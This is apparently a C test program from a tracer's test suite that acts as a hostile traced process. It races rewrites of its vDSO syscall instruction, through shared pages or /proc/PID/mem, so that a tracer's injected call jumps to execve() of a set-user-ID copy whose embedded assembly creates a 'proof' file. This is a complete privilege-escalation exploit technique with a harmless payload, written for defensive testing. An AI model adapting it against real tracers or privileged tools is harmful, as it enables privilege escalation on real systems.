/*
 * A program that wants more rights than it has. It spins at THIEF_PLACE. The
 * system call instruction that a tracer may use for an injected call is
 * rewritten all the time: it is now that instruction, now a jump to an execve()
 * of PROGRAM. PROGRAM is this file with the set-user-ID bit; at THIEF_PLACE it
 * has code that makes the file "proof" in the working directory. A tracer that
 * honours the bit and then puts the old registers back runs that code.
 *
 * Usage: victim_thief {shared | file | vdso | calm} PROGRAM shared  the vDSO is
 * replaced by a shared page, which a child writes to file    by a private page
 * of the file "page", which a child writes to vdso    the vDSO stays, and a
 * child writes to it through /proc/PID/mem calm    nothing is rewritten closed
 * it is not dumpable, and sleeps Prints "ready" before it spins. Without
 * arguments it ends at once.
 *
 * Linked without PIE, and with .thief at THIEF_PLACE: see the Makefile.
 */
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

#if defined(__x86_64__)

#define PAGE 4096
#define VDSO_SIZE 8192
#define THIEF_PLACE 0x10000000
#define STEP_PLACE 0x20000000 /* of the code that calls execve() */
#define LANDING 0x40          /* bytes behind the instruction */
#define DWELL 3000            /* rounds between two writes */

/* Flat code: its registers and its stack are those of the other program. */
__asm__(".section .thief,\"ax\",@progbits\n\t"
	"movl $2, %eax\n\t" /* open("proof", O_WRONLY | O_CREAT, 0600) */
	"leaq 1f(%rip), %rdi\n\t"
	"movl $0101, %esi\n\t"
	"movl $0600, %edx\n\t"
	"syscall\n\t"
	"movl $231, %eax\n\t" /* exit_group(0) */
	"xorl %edi, %edi\n\t"
	"syscall\n"
	"1:\t.asciz \"proof\"\n\t"
	".text");

static const uint16_t a_call = 0x050f;                    /* syscall */
static const uint16_t a_jump = 0xeb | (LANDING - 2) << 8; /* jmp LANDING */
static const char spin[] = "\xeb\xfe";                    /* jmp . */
static const char step[] = "\xb8\x3b\0\0\0"               /* mov $59, %eax */
			   "\xbf\0\1\0\x20"   /* mov $STEP_PLACE+256, %edi */
			   "\x31\xf6\x31\xd2" /* xor %esi, %esi; %edx, %edx */
			   "\x0f\x05\xeb\xfe";
static const char landing[] = "\xff\x25\0\0\0\0"    /* jmp *(%rip) */
			      "\0\0\0\x20\0\0\0\0"; /* STEP_PLACE */

static void
must(int right, const char *what)
{
	if (right)
		return;
	perror(what);
	_exit(1);
}

static void *
map_at(uintptr_t place, size_t size, int prot, int flags, int fd)
{
	void *at = mmap((void *)place, size, prot, flags, fd, 0);

	must(at != MAP_FAILED, "mmap");
	return at;
}

static char *
lay_code(uintptr_t place, const char *code, size_t size)
{
	const int all = PROT_READ | PROT_WRITE | PROT_EXEC;
	char *at = map_at(
	    place, PAGE, all, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1);

	memcpy(at, code, size);
	return at;
}

/* The page FD stands for the vDSO. Where the child can write to it. */
static char *
replace_vdso(uintptr_t vdso, int fd, int flags)
{
	char *page;

	must(fd >= 0 && ftruncate(fd, VDSO_SIZE) == 0, "a page");
	page = map_at(0, VDSO_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED, fd);
	memset(page, 0x90, VDSO_SIZE);
	memcpy(page, &a_call, sizeof(a_call));
	memcpy(page + LANDING, landing, sizeof(landing) - 1);
	map_at(vdso, VDSO_SIZE, PROT_READ | PROT_EXEC, flags | MAP_FIXED, fd);
	return page;
}

static void
dwell(void)
{
	volatile int round;

	for (round = 0; round < DWELL; round++)
		continue;
}

static void
rewrite_page(char *page)
{
	for (;;) {
		__atomic_store_n(
		    (uint16_t *)(void *)page, a_jump, __ATOMIC_SEQ_CST);
		dwell();
		__atomic_store_n(
		    (uint16_t *)(void *)page, a_call, __ATOMIC_SEQ_CST);
		dwell();
	}
}

static void
rewrite_vdso(pid_t parent, uintptr_t vdso)
{
	char *at = memmem((void *)vdso, PAGE, &a_call, sizeof(a_call));
	char path[64];
	int fd;

	must(at != NULL, "no instruction in the vDSO");
	snprintf(path, sizeof(path), "/proc/%d/mem", parent);
	fd = open(path, O_RDWR);
	must(fd >= 0 &&
		pwrite(fd, landing, sizeof(landing) - 1,
		    (off_t)(uintptr_t)(at + LANDING)) > 0,
	    path);
	for (;;) {
		must(pwrite(fd, &a_jump, 2, (off_t)(uintptr_t)at) == 2, path);
		dwell();
		must(pwrite(fd, &a_call, 2, (off_t)(uintptr_t)at) == 2, path);
		dwell();
	}
}

int
main(int argc, char **argv)
{
	uintptr_t vdso = getauxval(AT_SYSINFO_EHDR);
	pid_t parent = getpid();
	char *page = NULL;

	if (argc < 3)
		return 0;
	if (strcmp(argv[1], "closed") == 0) {
		prctl(PR_SET_DUMPABLE, 0);
		return pause();
	}
	if (strcmp(argv[1], "shared") == 0)
		page = replace_vdso(vdso, memfd_create("page", 0), MAP_SHARED);
	if (strcmp(argv[1], "file") == 0)
		page = replace_vdso(vdso,
		    open("page", O_RDWR | O_CREAT | O_TRUNC, 0700),
		    MAP_PRIVATE);
	strcpy(lay_code(STEP_PLACE, step, sizeof(step)) + 256, argv[2]);
	if (strcmp(argv[1], "calm") != 0 && fork() == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		if (page != NULL)
			rewrite_page(page);
		rewrite_vdso(parent, vdso);
	}
	puts("ready");
	fflush(stdout);
	lay_code(THIEF_PLACE, spin, sizeof(spin));
	((void (*)(void))(uintptr_t)THIEF_PLACE)();
	return 0;
}

#else

int
main(void)
{
	return 77;
}

#endif
